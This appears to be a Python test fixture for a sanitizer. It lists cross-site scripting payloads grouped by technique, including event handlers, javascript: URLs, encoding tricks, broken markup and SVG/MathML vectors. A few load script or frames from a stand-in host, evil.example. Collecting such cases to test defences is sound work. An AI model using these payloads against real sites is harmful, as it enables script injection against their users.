"""XSS cases written for this project, one group per class of attack in the public corpora
(../shared/security), so that a clone without those files still tests every class."""

XSS_CASES = {
    "event handlers": [
        '<img src=x onerror="alert(1)">',
        "<body onload=alert(1)>",
        "<div onmouseover='alert(1)'>hover</div>",
        '<a href="https://example.org" onclick="alert(1)">rates</a>',
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        '"><img src=x onerror=alert(1)>',
        "<x contenteditable onblur=alert(1)>lose focus",
    ],
    "script and frames": [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        '<iframe src="https://evil.example"></iframe>',
        "<object data=javascript:alert(1)>",
        '<embed src="data:text/html,<script>alert(1)</script>">',
        '<base href="https://evil.example/">',
        "<style>body{background:url(javascript:alert(1))}</style>",
    ],
    "javascript: and data: URLs": [
        "[pay rates](javascript:alert(1))",
        "[pay rates](JaVaScRiPt:alert(1))",
        "[pay rates](  javascript:alert(1))",
        "[pay rates](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![chart](javascript:alert(1))",
        '<a href="vbscript:msgbox(1)">rates</a>',
        '<a href="data:text/html,<script>alert(1)</script>">rates</a>',
        "<javascript:alert(1)>",
    ],
    "encodings": [
        "[rates](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
        "[rates](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1))",
        '<a href="jav&#x09;ascript:alert(1)">rates</a>',
        '<a href="java\u0000script:alert(1)">rates</a>',
        "[rates](java%0ascript:alert(1))",
        '<img src="x" o&#110;error="alert(1)">',
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    ],
    "broken markup": [
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "</scrip</script>t><img src=q onerror=alert(1)>",
        "<img src=x onerror=alert(1)//",
        '<a href="https://example.org"<img src=x onerror=alert(1)>>rates</a>',
        "<!--<img src=x onerror=alert(1)>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        '<p title="</p><script>alert(1)</script>">text</p>',
        "`<script>alert(1)</script>`",
    ],
    "SVG and MathML": [
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">rates</text></a></svg>',
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>"
        "</mglyph></table></mtext></math>",
        '<math href="javascript:alert(1)">CLICK</math>',
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    ],
}
